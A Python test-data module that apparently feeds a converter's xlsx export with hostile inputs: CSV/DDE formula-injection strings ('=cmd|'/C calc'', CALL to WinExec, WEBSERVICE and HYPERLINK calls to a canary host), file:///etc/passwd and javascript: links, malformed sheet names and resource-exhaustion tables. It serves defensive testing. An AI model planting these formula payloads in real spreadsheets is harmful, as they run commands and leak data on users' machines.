# ruff: noqa: E501, Q003 - attacks are data, a line each
"""Tables whose cells would be links to files, calls of programs or more than a workbook can hold."""

from attack import ELSEWHERE, PORT, Attack

XLSX = ("xlsx",)
PLACE = f"{ELSEWHERE}/canary"
HERE = f"127.0.0.1:{PORT}"
REACHING_OUT = (
    "=cmd|'/C calc'!A0", "=cmd|' /C calc'!'A1'", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=DDE(\"cmd\",\"/C calc\",\"x\")", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    f"=WEBSERVICE(\"http://{HERE}/\"&A1)", f"=webservice ( \"http://{HERE}\" )", f"=_xlfn.WEBSERVICE(\"http://{HERE}\")", f"=IMAGE(\"http://{HERE}/a.png\")", f"=IMPORTDATA(\"http://{HERE}\")",
    f"='file://{PLACE}.xlsx'#$Sheet1.A1", f"='{PLACE}.xlsx'#$Sheet1.A1", f"='[{PLACE}.xlsx]Sheet1'!A1", "=[1]Sheet1!A1", "='\\\\x.example\\share\\[a.xlsx]S'!A1", f"='http://{HERE}/[a.xlsx]S'!A1",
    f"=HYPERLINK(\"file://{PLACE}.txt\",\"x\")", f"=HYPERLINK(\"http://{HERE}/\"&A1,\"x\")", "=HYPERLINK(\"\\\\x.example\\a\")", "=HYPERLINK(A1)", f"=INDIRECT(\"'file://{PLACE}.xlsx'#$A.A1\")",
    "=RTD(\"x.y\",,\"z\")", "=CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", "=REGISTER.ID(\"a\",\"b\")", "=EXEC(\"calc\")", "=SQL.REQUEST(\"a\")", "=PY(\"import os\",0)", "=CUBEVALUE(\"a\")", "=INFO(\"directory\")",
    "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+9)*cmd|'/C calc'!A0", "\t=cmd|'/C calc'!A0", "\"=cmd|'/C calc'!A0", "=\u202ecmd|'/C calc'!A0", "=IF(1,WEBSERVICE(\"http://x.example\"),0)",
)  # fmt: skip
NAMES = (
    "[a]",
    "a'b''",
    "\\/:*?",
    "History",
    "x" * 500,
    "'",
    "\u202ea",
    "=1+1",
    '<a>&"',
    "Sheet1'!A1",
    "\U0001f600" * 40,
    " ",
)


def csv_of(cells: tuple[str, ...]) -> str:
    rows = [f'"{cell.replace(chr(34), chr(34) * 2)}",1' for cell in cells]
    return "text,number\n" + "\n".join(rows)


def table_of(cells: tuple[str, ...]) -> str:
    escaped = [cell.replace("&", "&amp;").replace("<", "&lt;") for cell in cells]
    return "<table><tr><th>a<th>b" + "".join(f"<tr><td>{cell}<td>1" for cell in escaped) + "</table>"


WORKBOOKS = (
    Attack("cells-that-reach-out", csv_of(REACHING_OUT), "csv", XLSX, warns=("formula_refused",)),
    Attack("cells-of-html-that-reach-out", table_of(REACHING_OUT), "html", XLSX, warns=("formula_refused",)),
    Attack("cells-of-markdown-that-reach-out", "| a | b |\n|---|---|\n" + "".join(f"| {cell.replace('|', chr(92) + '|')} | 1 |\n" for cell in REACHING_OUT), "markdown", XLSX, warns=("formula_refused",)),
    Attack("cells-that-are-no-formulas", csv_of(("=" * 8_000, "=" + "(" * 4_000, "=" + "-" * 8_000 + "1", "=" + "IF(" * 100 + "1" + ")" * 100, "=\"" + "x" * 8_000, "='" + "'" * 8_000 + "!A1", "=" + "A1:" * 2_000 + "A1", "={" * 3_000)), "csv", XLSX, warns=("formula_as_text",)),
    Attack("names-of-sheets-that-are-none", "".join(f"## {name}\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n" for name in NAMES), "markdown", XLSX),
    Attack("links-of-cells-to-files", f'<table><tr><td><a href="file:///etc/passwd">x</a><td><a href="file://{PLACE}.txt">x</a><td><a href="javascript:x()">y</a><td><a href="\\\\x.example\\a">z</a></table>', "html", XLSX),
    Attack("spans-without-end", "<table>" + ("<tr>" + "<td colspan=150 rowspan=20000>x" * 4) * 8 + "</table>", "html", XLSX, ends="too_many_columns"),
    Attack("rows-that-are-spanned-without-end", "<table>" + ("<tr>" + "<td colspan=150 rowspan=20000>x" * 4) + "<tr>" * 500 + "</table>", "html", XLSX),
    Attack("a-quote-that-never-ends", 'a,b\n"' + "x,\n" * 200_000, "csv", XLSX),
    Attack("a-row-of-a-million-cells", lambda: "a," * 1_000_000, "csv", XLSX, ends="too_many_columns"),
    Attack("rows-without-end", lambda: "1\n" * 300_000, "csv", XLSX, ends="too_many_rows"),
    Attack("a-thousand-tables", "| a |\n|---|\n| 1 |\n\nx\n\n" * 1_000, "markdown", XLSX, ends="too_many_sheets"),
    Attack("figures-that-take-long-to-read", csv_of(("1," * 15_000, "1.1" * 10_000, " " * 30_000 + "1", "-" * 30_000, "1" * 30_000, "(" * 30_000, "1-" * 15_000, "+1 " * 10_000, "1'" * 15_000, "\u00a01" * 15_000)), "csv", XLSX),
    Attack("a-rule-that-takes-long-to-read", "a|b\n" + "-" * 200_000 + "x\n" + "- " * 5_000 + "|x\n" + "|-" * 20_000, "markdown", XLSX, ends="no_tables"),
    Attack("charts-of-tables-of-nothing", "<table data-chart=pie><tr><th>a<th>b<tr><td>x<td>y</table><table data-chart=evil><tr><td>1<td>2</table><table data-chart=line></table>", "html", XLSX, warns=("chart_failed",)),
    Attack("escapes-of-characters-in-cells", csv_of(("_x0041_", "_x0000_x", "&#0;", "]]>", "<f>1+1</f>", "\x00\x01\x1b", "\ufffe\ud800", "a" * 40_000)), "csv", XLSX, warns=("content_lost",)),
)  # fmt: skip
